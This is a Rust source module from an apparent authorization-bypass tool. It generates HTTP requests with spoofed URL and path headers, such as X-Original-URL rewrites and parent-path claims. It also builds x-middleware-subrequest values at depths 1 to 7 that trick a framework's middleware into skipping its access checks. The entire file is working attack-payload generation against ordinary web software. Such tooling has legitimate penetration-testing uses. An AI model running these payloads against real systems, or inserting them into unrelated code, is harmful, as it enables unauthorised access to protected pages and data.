//! URL- and path-carrying spoof headers.
//!
//! Two families per header name. The first probes `/` while claiming the
//! protected path in the header (the `X-Original-URL` rewrite trick). The
//! second requests the protected path while claiming each parent prefix,
//! for origins that authorize on the claimed location instead of the
//! request line. Names that semantically hold a full URL (`url`, `request`,
//! `file`, `refer`) also get absolute-URL values.
//!
//! `x-middleware-subrequest` is its own animal: a framework middleware
//! trusts that header to mean "internal subrequest" once the value lists
//! enough middleware path tokens, so both known token spellings are emitted
//! at depths 1–7.

use gatecrash_payload::RequestDescriptor;

use crate::context::{DedupKey, Emitter, GenerationContext};

const NAME: &str = "http_headers_url";

const SUBREQUEST_HEADER: &str = "x-middleware-subrequest";
const SUBREQUEST_TOKENS: &[&str] = &["middleware", "src/middleware"];
const SUBREQUEST_MAX_DEPTH: usize = 7;

pub(crate) fn generate(ctx: &GenerationContext) -> Vec<RequestDescriptor> {
    let mut emitter = Emitter::new(DedupKey::Wire);
    let path = ctx.target.path_or_root();
    let query = &ctx.target.query;
    let original_target = ctx.target.request_target();

    for name in ctx.wordlists.header_urls() {
        let lower = name.to_ascii_lowercase();

        if lower == SUBREQUEST_HEADER {
            for token in SUBREQUEST_TOKENS {
                for depth in 1..=SUBREQUEST_MAX_DEPTH {
                    let value = vec![*token; depth].join(":");
                    let mut descriptor = ctx.descriptor(NAME, original_target.clone());
                    descriptor.push_header(name.clone(), value);
                    emitter.push(descriptor);
                }
            }
            continue;
        }

        let takes_full_url =
            ["url", "request", "file"].iter().any(|needle| lower.contains(needle));

        // family 1: ask for "/", claim the protected path
        push(&mut emitter, ctx, name, "/", path);
        if !query.is_empty() {
            push(&mut emitter, ctx, name, "/", &format!("{path}{query}"));
        }
        if takes_full_url {
            push(&mut emitter, ctx, name, "/", &ctx.original_url);
        }

        // family 2: ask for the protected path, claim each parent prefix
        let parent_full_url =
            takes_full_url || lower.contains("refer");
        for parent in parent_paths(path) {
            push(&mut emitter, ctx, name, &original_target, &parent);
            if !query.is_empty() {
                push(&mut emitter, ctx, name, &original_target, &format!("{parent}{query}"));
            }
            if parent_full_url {
                let absolute = format!(
                    "{}://{}{parent}",
                    ctx.target.scheme,
                    ctx.target.authority()
                );
                push(&mut emitter, ctx, name, &original_target, &absolute);
            }
        }
    }

    emitter.finish()
}

fn push(emitter: &mut Emitter, ctx: &GenerationContext, name: &str, raw_uri: &str, value: &str) {
    let mut descriptor = ctx.descriptor(NAME, raw_uri);
    descriptor.push_header(name.to_owned(), value.to_owned());
    emitter.push(descriptor);
}

/// Proper prefixes of `path`, deepest first, ending at the root:
/// `/a/b/c` → `/a/b`, `/a`, `/`.
fn parent_paths(path: &str) -> Vec<String> {
    let mut parents = Vec::new();
    let trimmed = path.trim_end_matches('/');
    let mut rest = trimmed;
    while let Some(idx) = rest.rfind('/') {
        if idx == 0 {
            if trimmed != "/" && !trimmed.is_empty() {
                parents.push("/".to_owned());
            }
            break;
        }
        parents.push(rest[..idx].to_owned());
        rest = &rest[..idx];
    }
    parents
}
